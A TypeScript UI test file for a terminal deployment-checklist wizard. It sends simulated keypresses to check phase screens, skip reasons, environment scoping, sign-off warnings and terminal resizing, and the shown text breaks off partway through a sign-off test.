/**
 * The wizard's screens, drawn by Ink into ink-testing-library's fake terminal,
 * over real services: runs in a temporary DEPLOY_WIZARD_HOME and real checks.
 * Keys are sent as a terminal sends them; each step waits for what the screen
 * should show, then looks at the run file on disk where it matters.
 */
import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, afterEach, before, describe, test } from 'node:test'
import { render } from 'ink-testing-library'
import { loadChecklist } from '../../src/checklist/load.ts'
import type { JournalEntry } from '../../src/run/model.ts'
import { resumeRun, startRun, wizardServices } from '../../src/run/start.ts'
import type { StoreProblem } from '../../src/run/store.ts'
import { App, type AppOptions, type AppOutcome } from '../../src/ui/app.tsx'
import { backend } from '../helpers/checks.ts'
import { assumeMotoAccount, credentialsEnv, newAccountId } from '../helpers/moto-accounts.ts'
import { readRunFiles } from '../helpers/run-files.ts'
import { type LocalServer, startHttpServer } from '../helpers/servers.ts'
import { tempDir } from '../helpers/temp.ts'
import { inputSettled, waitFor, waitForContent } from '../helpers/wait.ts'

const ARROW_DOWN = '\u001B[B'
const ARROW_UP = '\u001B[A'
const ARROW_RIGHT = '\u001B[C'
const ARROW_LEFT = '\u001B[D'
const ENTER = '\r'
const ESCAPE = '\u001B'
const END = '\u001B[F'
const HOME = '\u001B[H'
const PAGE_DOWN = '\u001B[6~'
const PAGE_UP = '\u001B[5~'

// The fake terminal is 100 columns wide; its height comes from LINES.
process.env.COLUMNS = '100'
process.env.LINES = '24'

const outcomes: AppOutcome[] = []
const screens: { unmount(): void }[] = []
afterEach(async () => {
  // Unmounted here, not by Ink's exit hook: leaving writes the run's `left` entry, which must
  // land while the test's folder is still there.
  for (const screen of screens.splice(0)) screen.unmount()
  for (const outcome of outcomes.splice(0)) await outcome.session?.close()
})

const CHECKLIST = `---
title: Screens
environments: [dev, prod]
---
## Before
- [ ] Change request approved
- [ ] HOME is set <!-- check: env name=HOME -->
- [ ] Database backed up

\`\`\`bash
pg_dump --format=custom app > app.dump
\`\`\`

## After
- [ ] Smoke tests pass

## Sign-Off
- [ ] Deployed by: ________ Date: ______
`

function workspace(markdown = CHECKLIST) {
  // Removed when the process exits (tempDir): the wizard may still write its last entry as it closes.
  const dir = tempDir('ui')
  const path = join(dir, 'deploy.md')
  writeFileSync(path, markdown)
  const env = { DEPLOY_WIZARD_HOME: join(dir, 'home'), DEPLOY_WIZARD_OPERATOR: 'ana' }
  return { dir, path, env, runs: join(dir, 'home', 'runs') }
}

function open(space: ReturnType<typeof workspace>, options: Partial<AppOptions> = {}) {
  let outcome: AppOutcome | null = null
  const storeProblems: StoreProblem[] = []
  const staleAfterMs = options.staleAfterMs ?? 60 * 60_000
  const screen = render(
    <App
      services={wizardServices({ env: space.env, cwd: space.dir, staleAfterMs })}
      options={{
        staleAfterMs,
        sheetPathFor: (id) => join(space.dir, `${id}.md`),
        today: '2026-11-22',
        now: () => new Date(),
        operator: 'ana',
        ...options,
      }}
      onDone={(done) => {
        outcome = done
        outcomes.push(done)
      }}
      onStoreProblems={(problems) => storeProblems.push(...problems)}
    />,
  )
  screens.push(screen)
  const frame = () => screen.lastFrame() ?? ''
  /**
   * Waits until the screen shows `pattern`; fails with the screen as it is. The limit is for a
   * loaded machine (checks against moto and local servers): a passing test never waits it out.
   */
  const see = async (pattern: RegExp, timeoutMs = 15_000) => {
    await waitForContent(frame, pattern, timeoutMs)
    // What is drawn listens for keys once React has run its effects.
    await inputSettled()
  }
  /** The fake terminal takes this size, as a real one does when its window is resized. */
  const resize = (columns: number, rows: number) => {
    Object.defineProperty(screen.stdout, 'columns', { value: columns, configurable: true })
    Object.defineProperty(screen.stdout, 'rows', { value: rows, configurable: true })
    screen.stdout.emit('resize')
  }
  const press = async (...keys: string[]) => {
    for (const key of keys) {
      screen.stdin.write(key)
      await inputSettled(key)
    }
  }
  return { screen, frame, see, press, resize, storeProblems, outcome: () => outcome }
}

function journal(runs: string, id: string): JournalEntry[] {
  return readRunFiles(runs, id).journal
}

function runIdOn(frame: string): string {
  const id = /dev-\d{8}-[a-z0-9]{4}|prod-\d{8}-[a-z0-9]{4}/.exec(frame)?.[0]
  assert.ok(id, `no run id on screen:\n${frame}`)
  return id
}

describe('the phase screen', () => {
  test('shows the phase, runs its checks, and saves an answer before showing it', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/✔ HOME is set\s+pass/)
    const screen = ui.frame()
    assert.match(screen, /Screens\s+dev\s+ana · dev-/)
    assert.match(screen, /1\/3 Before/)
    assert.match(screen, /› ○ Change request approved\s+manual/)
    assert.match(screen, /d done · f fail · s skip/)
    const id = runIdOn(screen)
    await ui.press('d')
    // Answered, the cursor moves on to the next item to answer.
    await ui.see(/ {2}✔ Change request approved[\s\S]*› ○ Database backed up/)
    const answered = journal(space.runs, id).find(
      (e) => e.type === 'item-answered' && e.itemId === 'before/change-request-approved',
    )
    assert.equal(answered?.type === 'item-answered' && answered.state, 'done')
    await ui.press('q')
    assert.equal(ui.outcome()?.kind, 'quit')
  })

  test('the detail pane shows the selected item’s code block and check result', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/pass/)
    await ui.press('j')
    await ui.see(/check: env name=HOME/)
    assert.match(ui.frame(), /✔ pass in (?:\d+ms|\d+\.\ds) at [\d:]+ — HOME is set/)
    // The check decided it, not ana, who only started the run.
    assert.match(
      ui.frame(),
      /✔ done — verified by check at \d\d:\d\d:\d\d \(pass in (?:\d+ms|\d+\.\ds)\)/,
    )
    assert.doesNotMatch(ui.frame(), /by ana/)
    // A person's answer is the person's, and the check's result stays beside it.
    await ui.press('f', ENTER)
    await ui.see(/✘ HOME is set/)
    // Back to it, wherever the cursor went after the answer.
    await ui.press(HOME, 'j')
    await ui.see(/✘ failed by ana at \d\d:\d\d:\d\d/)
    assert.match(ui.frame(), /✔ pass in .* — HOME is set/)
    await ui.press('j')
    await ui.see(/pg_dump --format=custom app > app.dump/)
    assert.match(ui.frame(), /```bash/)
    await ui.press('q')
  })

  test('the detail pane shows a check’s parameters quoted as the checklist wrote them', async () => {
    const space = workspace(
      '---\ntitle: Quotes\n---\n## Build\n- [ ] Unit tests pass <!-- check: command run="make test" output="\\d+ passed, 0 failed" -->\n',
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Trust it on this machine\?/)
    await ui.press('n')
    await ui.see(/check: command/)
    assert.match(ui.frame(), /check: command run="make test" output="\\d\+ passed, 0 failed"/)
    await ui.press('q')
  })

  test('expanded, the detail pane scrolls with PgDn/PgUp until its last line is read', async () => {
    const body = Array.from({ length: 40 }, (_, i) => `step ${String(i + 1).padStart(2, '0')}`)
    const space = workspace(
      `---\ntitle: Long\n---\n## Build\n- [ ] Read the runbook\n\n\`\`\`text\n${body.join('\n')}\n\`\`\`\n- [ ] Ship it\n`,
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/more lines \(enter: expand\)/)
    await ui.press(ENTER)
    await ui.see(/↓ \d+ more lines \(PgDn · enter: back\)/)
    const seen = new Set<string>()
    const read = () => {
      for (const step of ui.frame().match(/step \d\d/g) ?? []) seen.add(step)
    }
    read()
    for (let page = 0; page < 20 && !/end \(PgUp/.test(ui.frame()); page++) {
      const before = ui.frame()
      await ui.press(PAGE_DOWN)
      await waitFor(() => ui.frame() !== before, 'the pane to scroll')
      read()
    }
    assert.deepEqual(
      body.filter((step) => !seen.has(step)),
      [],
      ui.frame(),
    )
    assert.match(ui.frame(), /↑ \d+ more lines \(PgUp\)/)
    // The cursor stayed on the item being read.
    assert.match(ui.frame(), /› ○ Read the runbook/)
    await ui.press(PAGE_UP)
    await ui.see(/↓ \d+ more lines \(PgDn/)
    await ui.press(ENTER)
    await ui.see(/more lines \(enter: expand\)/)
    await ui.press('q')
  })

  test('a skip needs a reason; esc backs out without answering', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Change request approved/)
    await ui.press('s')
    await ui.see(/Skip: Change request approved/)
    await ui.press(ENTER)
    await ui.see(/A skip needs a reason/)
    await ui.press(ESCAPE)
    await ui.see(/› ○ Change request approved/)
    await ui.press('s', 'covered by CAB-12', ENTER)
    await ui.see(/ {2}» Change request approved[\s\S]*› ○ Database backed up/)
    await ui.press('g')
    await ui.see(/reason: covered by CAB-12/)
    // The note so far is selected: End keeps it, and the words go after it.
    await ui.press('n', END, ' (Carla agreed)', ENTER)
    await ui.see(/reason: covered by CAB-12 \(Carla agreed\)/)
    await ui.press('q')
  })

  test('a long phase scrolls inside the terminal; the cursor stays in view', async () => {
    const items = Array.from({ length: 40 }, (_, i) => `- [ ] Step number ${i + 1}`).join('\n')
    const space = workspace(`---\ntitle: Long\n---\n## Steps\n${items}\n`)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Step number 1\b/)
    const lines = ui.frame().split('\n')
    assert.ok(lines.length <= 24, `the screen grew to ${lines.length} lines`)
    assert.match(ui.frame(), /↓ \d+ more/)
    assert.doesNotMatch(ui.frame(), /Step number 40/)
    await ui.press(END)
    await ui.see(/› ○ Step number 40/)
    assert.match(ui.frame(), /↑ \d+ more/)
    assert.doesNotMatch(ui.frame(), /Step number 1\b/)
    await ui.press('q')
  })

  test('at 60 columns long items are cut, never wrapped, and the header keeps its title', async () => {
    const long = 'agents table with columns: id, name, description, category, version, status'
    const space = workspace(
      CHECKLIST.replace(
        '- [ ] Change request approved',
        `- [ ] Change request approved\n- [ ] ${long}`,
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Change request approved/)
    ui.resize(60, 16)
    await ui.see(/q quit/)
    const lines = ui.frame().split('\n')
    assert.equal(lines.length, 16)
    for (const line of lines) assert.ok(line.length <= 60, `wider than 60 columns: ${line}`)
    assert.match(lines[0] ?? '', /^Screens {3}dev {3}ana · /)
    assert.match(lines[0] ?? '', / · dev-\d{8}-[a-z0-9]{4}$/, 'the run id stays whole')
    assert.match(lines[1] ?? '', /^overall \S+ \d+\/\d+ /)
    assert.ok(
      lines.some((line) => /^ {2}○ agents table with columns: id, .*…\s+manual$/.test(line)),
    )
    await ui.press('q')
  })

  test('at 60 columns the header keeps the run id whole, cutting a long title first', async () => {
    const space = workspace(
      CHECKLIST.replace('title: Screens', 'title: Document Agents on ECS Fargate deployment'),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Change request approved/)
    ui.resize(60, 16)
    await ui.see(/q quit/)
    const header = ui.frame().split('\n')[0] ?? ''
    assert.match(header, /^Document Agents.* {3}dev {3}ana · dev-\d{8}-[a-z0-9]{4}$/, header)
    await ui.press('q')
  })

  test('at 40 to 59 columns the progress line keeps the phase’s number and its counts whole: the bars shorten', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Change request approved/)
    await ui.press('d')
    for (const columns of [40, 50, 59]) {
      ui.resize(columns, 16)
      await ui.see(/q quit/)
      const progress = ui.frame().split('\n')[1] ?? ''
      // The run's bar and count, the phase's number and title (cut), its bar and count whole.
      assert.match(
        progress,
        /^[█░]{5} \d+\/\d+ {2}1\/\d+ .*[█░]{5} \d+\/\d+$/,
        `${columns}: ${progress}`,
      )
      assert.ok(progress.length <= columns, progress)
    }
    await ui.press('q')
  })

  test('at 80 columns every key of the footer shows, on two lines', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Change request approved/)
    ui.resize(80, 24)
    await ui.see(/R re-run failed/)
    const lines = ui.frame().split('\n')
    assert.equal(lines.length, 24)
    assert.deepEqual(lines.slice(-2), [
      // No o: nothing in this checklist is for another environment.
      '↑↓ move · d done · f fail · s skip · a n/a · n note · r run',
      'R re-run failed · A run all due · ←→ phase · ? help · q quit',
    ])
    for (const line of lines) assert.ok(line.length <= 80, `wider than 80 columns: ${line}`)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/enter fill/)
    assert.equal(
      ui.frame().split('\n').at(-1),
      '↑↓ move · enter fill · f finish · ← back · ? help · q quit',
    )
    await ui.press('q')
  })

  test('a terminal too small for the screen gets one line saying so, until it grows', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    ui.resize(80, 9)
    await ui.see(/terminal too small/)
    assert.equal(ui.frame(), 'need 40×14: terminal too small (q quits)')
    // Keys do nothing unseen.
    await ui.press('d')
    ui.resize(39, 24)
    await ui.see(/terminal too small/)
    ui.resize(80, 24)
    await ui.see(/› ○ Change request approved/)
    const lines = ui.frame().split('\n')
    assert.equal(lines.length, 24)
    assert.match(lines[0] ?? '', /^Screens\s+dev\s+ana · dev-/)
    const answered = journal(space.runs, id).filter(
      (e) => e.type === 'item-answered' && e.itemId === 'before/change-request-approved',
    )
    assert.deepEqual(answered, [])
    ui.resize(80, 14)
    await ui.see(/^Screens/)
    assert.equal(ui.frame().split('\n').length, 14)
    await ui.press('q')
    assert.equal(ui.outcome()?.kind, 'quit')
  })

  test('? lists every key; any key closes it', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Change request approved/)
    await ui.press('?')
    await ui.see(/Keys/)
    assert.match(ui.frame(), /skip \(a reason is required\)/)
    // All of it, at 24 rows: squeezed, lines ran into each other.
    assert.match(ui.frame(), /│ u {11}back to pending {2,}│/)
    assert.match(ui.frame(), /│ n {11}add a note {2,}│/)
    assert.match(ui.frame(), /A\s+run the due checks of every phase/)
    assert.match(ui.frame(), /Any key closes this/)
    // The box ends under its last line: no blank rows padding it to the screen's height.
    assert.match(ui.frame(), /Any key closes this\. *│\n╰/)
    await ui.press('x')
    await ui.see(/d done · f fail/)
    assert.doesNotMatch(ui.frame(), /Keys/)
    await ui.press('q')
  })

  test('while a prompt is open the footer lists its keys, not the phase’s', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/d done · f fail/)
    await ui.press('s')
    await ui.see(/Skip: Change request approved/)
    assert.match(ui.frame(), /enter save · esc cancel/)
    assert.doesNotMatch(ui.frame(), /d done|←→ phase/)
    await ui.press(ESCAPE)
    await ui.see(/d done · f fail/)
    await ui.press('q')
  })

  test('a checklist without checks offers no keys to run them and marks no row manual', async () => {
    const space = workspace(CHECKLIST.replace(' <!-- check: env name=HOME -->', ''))
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    assert.doesNotMatch(ui.frame(), /manual|r run|R re-run|A run all/)
    assert.match(ui.frame(), /d done · f fail · s skip/)
    await ui.press('q')
  })

  test('a sign-off longer than its screen says how many fields are below', async () => {
    const roles = [
      'Developer',
      'QA Lead',
      'DevOps Engineer',
      'Security Reviewer',
      'Manager',
      'Release Owner',
    ]
    const space = workspace(
      CHECKLIST.replace(
        '- [ ] Deployed by: ________ Date: ______',
        roles.map((role) => `- [ ] ${role}: ________ Date: ______`).join('\n'),
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    ui.resize(80, 16)
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/Sign-off/)
    assert.match(ui.frame(), /^ {2}↓ \d+ more$/m)
    assert.doesNotMatch(ui.frame(), /Release Owner/)
    for (let i = 0; i < 11; i++) await ui.press(ARROW_DOWN)
    await ui.see(/› Release Owner — Date/)
    assert.match(ui.frame(), /^ {2}↑ \d+ more$/m)
    await ui.press('q')
  })

  test('a long sign-off uses the height: its summary below takes only the rows it needs', async () => {
    const roles = Array.from({ length: 7 }, (_, i) => `Role ${i + 1}`)
    const space = workspace(
      CHECKLIST.replace(
        '- [ ] Deployed by: ________ Date: ______',
        roles.map((role) => `- [ ] ${role}: ________ Date: ______`).join('\n'),
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    ui.resize(120, 32)
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/Sign-off/)
    // All 21 rows show, none behind "↓ n more".
    assert.match(ui.frame(), /Role 7 — Signature/)
    assert.doesNotMatch(ui.frame(), /↓ \d+ more/)
    assert.match(ui.frame(), /enter: fill the selected field/)
    await ui.press('q')
  })

  test('→ past the last phase fills the sign-off; f finishes and writes the sheet', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/Sign-off/)
    // The operator's own name, dimmed, until entered: the field is not blank when opened.
    assert.match(ui.frame(), /› Deployed by\s+ana {2}\(proposed\)/)
    await ui.press(ENTER)
    await ui.see(/Name: ana/)
    await ui.press(ENTER)
    await ui.see(/› Deployed by — Date/)
    await ui.press(ENTER)
    await ui.see(/Date: 2026-11-22/)
    // Titled as the list labels it.
    assert.match(ui.frame(), /│ Deployed by — Date +│/)
    await ui.press(ENTER)
    await ui.press('f')
    await ui.see(/items are still pending\. Finish the run anyway\?/)
    await ui.press('y')
    const outcome = ui.outcome()
    assert.equal(outcome?.kind, 'finished')
    const sheet = readFileSync(outcome?.kind === 'finished' ? outcome.sheetPath : '', 'utf8')
    assert.match(sheet, /^\| Deployed by \| Name \| ana \|/m)
    assert.match(sheet, /^\| Deployed by \| Date \| 2026-11-22 \|/m)
  })
})

describe('a checklist with no steps to answer', () => {
  const SIGNOFF_ONLY = `---
title: Go or no-go
environments: [dev, prod]
---
## Readiness

1. Deploy to production
2. Run smoke tests

## Sign-off

- Release manager: ____
`

  test('opens on the sign-off, says it has no steps, and never that every item is answered', async () => {
    const space = workspace(SIGNOFF_ONLY)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/This checklist has no steps to answer: only its sign-off fields\./)
    const screen = ui.frame()
    assert.match(screen, /› Release manager\s+______/)
    assert.doesNotMatch(screen, /Every item is answered/)
    // Nothing answered of nothing: an empty bar, not a full one.
    assert.match(screen, /overall ░+ 0\/0/)
    assert.doesNotMatch(screen, /█/)
    // No phase to go back to, and no answer keys for a phase that is not there.
    assert.doesNotMatch(screen, /d done · f fail/)
    await ui.press(ARROW_LEFT)
    await ui.see(/› Release manager/)
    assert.match(ui.frame(), /This checklist has no steps to answer/)
    await ui.press('q')
  })

  test('one with neither task items nor sign-off fields is refused, saying what it has instead', async () => {
    const space = workspace('# Deploy\n\n## Steps\n\n1. Deploy to production\n2. Run smoke tests\n')
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await waitFor(() => ui.outcome() !== null, 'the wizard to end')
    const outcome = ui.outcome()
    assert.equal(outcome?.kind, 'error')
    const error = outcome?.kind === 'error' ? (outcome.error as Error) : null
    assert.match(
      error?.message ?? '',
      /has no steps to run: no task items \("- \[ \] …"\) and no sign-off fields; it has 2 numbered steps instead/,
    )
    assert.equal(existsSync(space.runs), false)
  })
})

describe('failed and skipped items are never hidden', () => {
  const CLAIMS = `---
title: Claims
environments: [dev]
---
## Before
- [ ] Change request approved
- [ ] Smoke tests pass

## Sign-Off
- [ ] All checks passed: Yes / No
`

  test('the bars count them apart; the sign-off says what failed; "All checks passed: Yes" is confirmed and noted', async () => {
    const space = workspace(CLAIMS)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    await ui.press('f', ENTER)
    await ui.see(/✘ Change request approved/)
    await ui.press(ARROW_DOWN, 's', 'flaky', ENTER)
    await ui.see(/1\/2 Before \S+ 2\/2 · 1 failed · 1 skipped/)
    assert.match(ui.frame(), /overall \S+ 2\/3 · 1 failed · 1 skipped/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/Sign-off/)
    assert.match(ui.frame(), /✘ 1 failed: Change request approved/)
    assert.match(ui.frame(), /» 1 skipped: Smoke tests pass/)
    assert.doesNotMatch(ui.frame(), /Every item is answered/)
    await ui.press(ENTER)
    await ui.see(/❯ Yes/)
    await ui.press(ENTER)
    await ui.see(/All checks passed: Yes\? Items failed\./)
    assert.match(ui.frame(), /chosen while 1 item had failed: Change request approved/)
    await ui.press('n')
    await ui.see(/› All checks passed\s+______/)
    await ui.press(ENTER)
    await ui.see(/❯ Yes/)
    await ui.press(ENTER)
    await ui.see(/Items failed\./)
    await ui.press('y')
    await ui.see(/› All checks passed\s+Yes/)
    const signed = journal(space.runs, id).filter((e) => e.type === 'signoff-entered')
    assert.deepEqual(
      signed.map((e) => e.type === 'signoff-entered' && [e.value, e.note]),
      [['Yes', 'chosen while 1 item had failed: Change request approved']],
    )
    await ui.press('f')
    await waitFor(() => ui.outcome() !== null, 'the run finished')
    const outcome = ui.outcome()
    assert.equal(outcome?.kind, 'finished')
    const sheet = readFileSync(outcome?.kind === 'finished' ? outcome.sheetPath : '', 'utf8')
    assert.match(sheet, /☑ Yes · ☐ No · ⚠ chosen while 1 item had failed: Change request approved/)
  })

  test('"All checks passed: Yes" chosen before an item failed is warned of in the pane and asked again at finish', async () => {
    const space = workspace(CLAIMS)
    // A second a step: the failure comes after the choice, whatever the machine's clock does.
    let clock = Date.parse('2026-11-22T09:00:00.000Z')
    const ui = open(space, {
      checklistPath: space.path,
      environment: 'dev',
      now: () => {
        clock += 1000
        return new Date(clock)
      },
    })
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    await ui.press('d')
    await ui.see(/› ○ Smoke tests pass/)
    await ui.press('d')
    await ui.see(/✔ Smoke tests pass/)
    await ui.press(ARROW_RIGHT)
    await ui.see(/› ○ All checks passed/)
    await ui.press('d')
    await ui.see(/❯ Yes/)
    // Nothing has failed yet: entered at once.
    await ui.press(ENTER)
    await ui.see(/✔ All checks passed/)
    await ui.press(ARROW_LEFT)
    await ui.see(/› ✔ Smoke tests pass/)
    await ui.press('f', 'smoke red', ENTER)
    await ui.see(/✘ Smoke tests pass/)
    await ui.press(ARROW_RIGHT)
    await ui.see(/› ✔ All checks passed/)
    // The pane showed a bare `All checks passed: Yes`.
    await ui.see(/⚠ 1 item failed after it was chosen: Smoke tests pass/)
    await ui.press(ARROW_RIGHT)
    await ui.see(/Sign-off/)
    await ui.press('f')
    await ui.see(/All checks passed: Yes\? Items failed after it was chosen\./)
    await ui.press('n')
    await ui.see(/not finished: change All checks passed on the sign-off screen/)
    assert.equal(ui.outcome(), null)
    await ui.press('f')
    await ui.see(/Items failed after it was chosen\./)
    await ui.press('y')
    await waitFor(() => ui.outcome() !== null, 'the run finished')
    const outcome = ui.outcome()
    assert.equal(outcome?.kind, 'finished')
    const signed = journal(space.runs, id).filter((e) => e.type === 'signoff-entered')
    assert.deepEqual(
      signed.map((e) => e.type === 'signoff-entered' && [e.value, e.note]),
      [
        ['Yes', undefined],
        ['Yes', 'chosen while 1 item had failed: Smoke tests pass'],
      ],
    )
    const sheet = readFileSync(outcome?.kind === 'finished' ? outcome.sheetPath : '', 'utf8')
    assert.match(sheet, /☑ Yes · ☐ No · ⚠ chosen while 1 item had failed: Smoke tests pass \|/)
    assert.match(
      sheet,
      /^- ✅ done — All checks passed: Yes · ⚠ chosen while 1 item had failed: Smoke tests pass — /m,
    )
  })
})

describe('an item the checklist scopes to other environments', () => {
  const SCOPED = `---
title: Scoped
environments: [dev, prod]
---
## Before
- [ ] Change request approved
- [ ] Backup taken (production only)

## Production Deployment
- [ ] Flip DNS
`

  test('is shown dimmed with the reason and its line; o makes it apply here, in the run and on the sheet', async () => {
    const space = workspace(SCOPED)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    assert.match(ui.frame(), /overall \S+ 0\/1/)
    assert.match(ui.frame(), /^ {2}– Backup taken \(production only\)\s+n\/a: prod only$/m)
    await ui.press(ARROW_DOWN)
    await ui.see(/the checklist says: prod only \(item text, line 7\)/)
    assert.match(ui.frame(), /– does not apply to dev {3}id: before\/backup-taken-production-only/)
    assert.match(ui.frame(), /o: it applies here after all/)

    // Not answered while it does not apply: the key says what to do instead.
    await ui.press('d')
    await ui.see(/does not apply to dev \(prod only, line 7\): o to apply it here/)
    const itemId = 'before/backup-taken-production-only'
    const about = () => journal(space.runs, id).filter((e) => 'itemId' in e && e.itemId === itemId)
    assert.deepEqual(about(), [])

    await ui.press('o')
    await ui.see(/applies here after all: recorded in the run and on the sheet/)
    assert.deepEqual(
      about().map((e) => e.type === 'scope-overridden' && [e.type, e.applies, e.by]),
      [['scope-overridden', true, 'ana']],
    )
    assert.match(ui.frame(), /› ○ Backup taken \(production only\) *$/m)
    assert.match(
      ui.frame(),
      /applies here after all: said by ana at .*; the checklist says prod only/,
    )
    assert.match(ui.frame(), /overall \S+ 0\/2/)
    await ui.press('d')
    // Answered, the cursor moves on to the item still to answer.
    await ui.see(/^ {2}✔ Backup taken/m)
    assert.match(ui.frame(), /overall \S+ 1\/2/)

    // A phase none of whose items apply is there all the same, dimmed, saying so.
    await ui.press(ARROW_RIGHT)
    await ui.see(/2\/2 Production Deployment does not apply to dev/)
    assert.match(ui.frame(), /› – Flip DNS\s+n\/a: prod only$/m)
    assert.match(
      ui.frame(),
      /the checklist says: prod only \(section "Production Deployment", line 9\)/,
    )

    await ui.press(ARROW_RIGHT)
    await ui.see(/Sign-off/)
    await ui.press('f')
    await ui.see(/1 item is still pending\. Finish the run anyway\?/)
    await ui.press('y')
    const outcome = ui.outcome()
    assert.equal(outcome?.kind, 'finished')
    const sheet = readFileSync(outcome?.kind === 'finished' ? outcome.sheetPath : '', 'utf8')
    assert.match(
      sheet,
      /- ✅ done — Backup taken \(production only\) — ana, [\d-]+ [\d:]+\\\n {2}Applies here after all: ana, [\d-]+ [\d:]+; the checklist says prod only \(item text, line 7\)/,
    )
    assert.match(
      sheet,
      /- ➖ n\/a — Flip DNS — applies to prod only \(section "Production Deployment", line 9\)/,
    )
  })

  test('o again takes it back: the checklist’s scope stands, and it is dimmed again', async () => {
    const space = workspace(SCOPED)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    await ui.press(ARROW_DOWN, 'o')
    await ui.see(/› ○ Backup taken \(production only\) *$/m)
    await ui.press('o')
    await ui.see(/does not apply here again: prod only \(item text, line 7\)/)
    assert.match(ui.frame(), /› – Backup taken \(production only\)\s+n\/a: prod only$/m)
    assert.deepEqual(
      journal(space.runs, id).flatMap((e) => (e.type === 'scope-overridden' ? [e.applies] : [])),
      [true, false],
    )
    // On an item that applies already, o says so and records nothing.
    await ui.press(ARROW_UP, 'o')
    await ui.see(/this item applies here already; a marks it not applicable/)
    await ui.press('q')
  })

  test('its command is listed for trust, is not run, and runs with r once said to apply here', async () => {
    const space = workspace(
      SCOPED.replace(
        '- [ ] Change request approved',
        '- [ ] Change request approved <!-- check: command run="echo approved" -->',
      ).replace('- [ ] Flip DNS', '- [ ] Flip DNS <!-- check: command run="echo flip" -->'),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    // Trusting covers every command of the file: each is shown before the answer, the
    // command of an item for prod too, since o can make it run in this dev run.
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    assert.match(ui.frame(), /\$ echo approved/)
    assert.match(ui.frame(), /\$ echo flip/)
    await ui.press('n')
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    await ui.press(ARROW_RIGHT)
    await ui.see(/› – Flip DNS\s+n\/a: prod only$/m)
    await ui.press('r')
    await ui.see(/does not apply to dev \(prod only, line 9\): o to apply it here/)
    const checks = () => journal(space.runs, id).filter((e) => e.type === 'check-finished')
    assert.deepEqual(checks(), [])
    await ui.press('o')
    await ui.see(/applies here after all: recorded in the run/)
    await ui.press('r')
    await ui.see(/Trust .* to run its 2 commands on/)
    assert.match(ui.frame(), /\$ echo flip/)
    await ui.press('y')
    await ui.see(/✔ Flip DNS\s+pass/)
    assert.deepEqual(
      checks().map((e) => e.type === 'check-finished' && e.itemId),
      ['production-deployment/flip-dns'],
    )
    await ui.press('q')
  })

  test('the footer and the help name the key', async () => {
    const space = workspace(SCOPED)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    assert.match(ui.frame(), / · o applies here · /)
    await ui.press('?')
    await ui.see(/Keys/)
    assert.match(ui.frame(), /│ o {11}a dimmed item applies here after all \(o again: undo\) {2,}│/)
    await ui.press('x')
    await ui.press('q')
  })
})

describe('the sign-off screen', () => {
  const SIGNOFF_TABLE = [
    '',
    '| Role | Name | Signature |',
    '|------|------|-----------|',
    '| QA Lead | | |',
    '| Security | | approved in SEC-88 |',
    '',
  ].join('\n')

  /** The sheet's sign-off table as `role | field` lines. */
  const sheetRoles = (sheet: string) =>
    sheet
      .slice(sheet.indexOf('## Sign-off entries'))
      .split('\n')
      .filter(
        (line) => line.startsWith('| ') && !line.startsWith('| Role') && !line.startsWith('| ---'),
      )
      .map((line) => line.split(' | ').slice(0, 2).join(' | ').replace(/^\| /, ''))

  test('shows each role’s line to sign on paper, as the sheet does; the cursor skips it', async () => {
    const space = workspace(`${CHECKLIST}${SIGNOFF_TABLE}`)
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/pass/)
    await ui.press(ARROW_RIGHT, ARROW_RIGHT, ARROW_RIGHT)
    await ui.see(/enter fill/)
    const signature = '_{16} {2}\\(on paper\\)'
    const lines = ui.frame().split('\n')
